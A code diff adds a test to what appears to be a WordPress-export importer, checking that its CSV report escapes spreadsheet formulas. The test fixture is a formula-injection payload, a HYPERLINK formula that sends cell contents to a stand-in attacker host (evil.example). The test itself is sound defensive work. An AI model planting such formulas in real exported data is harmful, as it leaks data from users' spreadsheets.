@@ -175,6 +175,19 @@ def test_posts_that_are_not_recaps_are_listed_with_their_text(imported, export):
     }
 
 
+def test_the_csv_report_opens_in_a_spreadsheet_without_running_a_formula(run_import, export):
+    """Point 7: a title (or URL, reason, text) from the export was written as it came, so a
+    post titled `=HYPERLINK(…)` was a live formula in the editor's spreadsheet."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open the report")'
+    text = export.read_text(encoding="utf-8")
+    export.write_text(text.replace("Top 10 Harbour Towns on Screen", formula.replace("&", "&amp;")))
+    run_import()
+    rows = list(csv.DictReader(open(ImportRun.objects.get().report_csv, encoding="utf-8")))
+    (row,) = [row for row in rows if row["wordpress_id"] == "104"]
+    assert row["title"] == "'" + formula
+    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
+
+
 def test_running_the_same_export_again_changes_nothing(run_import):
     run_import()
     before = counts()
